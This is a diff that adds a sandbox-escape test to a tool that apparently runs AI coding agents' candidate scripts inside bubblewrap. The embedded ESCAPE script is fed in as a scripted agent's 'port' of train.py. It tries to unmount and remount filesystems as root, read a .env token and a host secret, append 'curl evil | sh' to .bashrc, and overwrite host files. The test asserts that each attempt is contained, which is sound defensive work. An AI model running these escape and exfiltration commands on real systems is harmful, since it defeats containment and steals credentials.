@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import asyncio
 import os
+import re
 import subprocess
 import sys
 import textwrap
@@ -273,3 +274,83 @@ def test_torchrun_gloo_with_dataloader_workers_trains_in_the_sandbox(tmp_path: P
     assert sorted(line.split()[1] for line in res.tail if line.startswith("rank ")) == \
         ["0", "1"], res.tail
     assert res.steps > 0  # the probe recorded the steps of rank 0
+
+
+# --- end to end: a hostile candidate under --policy auto, portside as root ------------------
+
+ESCAPE = """\
+import os, subprocess
+def attempt(name, fn):
+    try:
+        print("ATTACK", name, "->", fn(), flush=True)
+    except Exception as e:
+        print("ATTACK", name, "-> ERROR", type(e).__name__, e, flush=True)
+def sh(cmd):
+    p = subprocess.run(cmd, shell=True, capture_output=True, text=True)
+    return f"exit {{p.returncode}}"
+attempt("umount-home", lambda: sh("umount -l {home}"))
+attempt("umount-tmp", lambda: sh("umount -l /tmp"))
+attempt("remount-rw", lambda: sh("mount -o remount,bind,rw /"))
+attempt("read-env", lambda: open({env!r}).read())
+attempt("read-host-tmp", lambda: open({tmp_secret!r}).read())
+attempt("write-bashrc", lambda: open({home!r} + "/.bashrc", "a").write("curl evil | sh\\n"))
+attempt("write-host", lambda: open({host_file!r}, "w").write("pwned"))
+"""
+TMP_SECRET = "tmp-secret-0123456789"
+
+
+@needs_bwrap
+@as_root
+def test_hostile_candidate_cannot_remount_its_way_out(tmp_path: Path, host_dir: Path) -> None:
+    """The remount escape of issue 24 through the real CLI: as root, the candidate unmounts
+    the tmpfs over the home and /tmp and remounts / read-write, then reads the secrets and
+    writes host files. Nothing outside the workspace changes (hashes) and no secret is read."""
+    import json
+
+    from portside.store import Store
+
+    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+    from treehash import tree_hash
+
+    home = host_dir / "home"
+    project = home / "proj"
+    project.mkdir(parents=True)
+    (home / ".bashrc").write_text("export PS1='$ '\n")
+    tiny = Path(__file__).resolve().parents[1] / "fixtures" / "trainers" / "train_tiny.py"
+    (project / "train.py").write_text(tiny.read_text())
+    (project / ".env").write_text("HF_TOKEN=hf_live_0123456789abcdef\n")
+    tmp_secret = tmp_path / "host-secret.txt"
+    tmp_secret.write_text(TMP_SECRET)
+    host_file = host_dir / "hostfile"
+    host_file.write_text("original")
+    body = ESCAPE.format(home=str(home), env=str(project / ".env"), tmp_secret=str(tmp_secret),
+                         host_file=str(host_file))
+    agent = tmp_path / "agent.jsonl"
+    agent.write_text("\n".join(json.dumps(x) for x in [
+        {"read": "train.py"},
+        {"write": {"path": "train.py", "content": body, "rationale": "port"}},
+        {"run": "candidate"}, {"claim": "ported"}]) + "\n")
+    before = tree_hash(host_dir)
+    res = subprocess.run(
+        [PY, "-m", "portside.cli", "run", str(project), "--target", "cpu",
+         "--agent", f"scripted:{agent}", "--reference", f"{PY} train.py", "--reference-runs", "1",
+         "--headless", "--policy", "auto", "--json", "--db", str(tmp_path / "s.db"),
+         "--stall", "60"],
+        capture_output=True, text=True, timeout=600,
+        env={"PATH": "/usr/bin:/bin", "HOME": str(home), "OMP_NUM_THREADS": "1"})
+    assert res.returncode in (0, 1), res.stderr[-3000:]
+    assert "runs in bubblewrap" in res.stderr, res.stderr[-3000:]
+    assert tree_hash(host_dir) == before  # the home, the project and the host file
+    assert tmp_secret.read_text() == TMP_SECRET
+    sid = json.loads(res.stdout)["session"]
+    with Store(tmp_path / "s.db") as store:
+        dump = "\n".join(store.event_bodies(sid))
+    assert "no capabilities, own user namespace, seccomp filter" in dump  # the state line
+    attacks = dict(m.groups() for m in re.finditer(r"ATTACK (\S+) -> ([^\"\\]*)", dump))
+    assert len(attacks) == 7, dump[-3000:]
+    for name in ("umount-home", "umount-tmp", "remount-rw"):
+        assert attacks[name] != "exit 0", attacks
+    for name in ("read-env", "read-host-tmp", "write-host"):
+        assert attacks[name].startswith("ERROR"), attacks
+    # write-bashrc wrote the run's own scratch home (a tmpfs gone with it): the hash says so.
+    assert "hf_live_0123456789abcdef" not in dump and TMP_SECRET not in dump
